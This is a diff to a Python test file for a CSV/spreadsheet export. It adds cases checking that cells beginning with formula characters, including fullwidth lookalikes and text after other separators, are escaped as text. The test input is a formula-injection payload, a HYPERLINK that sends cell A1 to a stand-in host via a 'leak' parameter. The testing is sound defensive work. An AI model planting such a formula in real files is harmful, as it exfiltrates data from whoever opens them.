@@ -138,13 +138,22 @@ def test_any_text_reads_back_as_it_was(text):
     assert [row[:3] for row in rows] == [["2026-03-02T12:00:00.000Z", text, text]]
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
 def test_a_cell_that_a_spreadsheet_would_take_for_a_formula_stays_text(start):
     text = start + 'HYPERLINK("http://elsewhere.example?leak="&A1)'
     data = render([EventFact(text, text, NOON)], candidate_name=text, session_id=text)
     summary, rows = read(data)
     assert summary["candidate_name"] == summary["session_id"] == "'" + text
     assert [row[:3] for row in rows] == [["2026-03-02T12:00:00.000Z", "'" + text, "'" + text]]
+
+
+@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n", ';"'])
+def test_nor_does_what_is_one_where_the_separator_is_another(separator):
+    """As where the comma is the decimal mark: quotes in the middle of a cell are nothing special then."""
+    text, harmless = f"Ada{separator}=1+1", f"a{separator}b=c-d"
+    summary, rows = read(render([EventFact(text, harmless, NOON)], candidate_name=text))
+    assert summary["candidate_name"] == rows[0][1] == f"Ada{separator}'=1+1"
+    assert rows[0][2] == harmless
 
 
 def test_no_cell_of_a_weighed_type_can_be_a_formula():
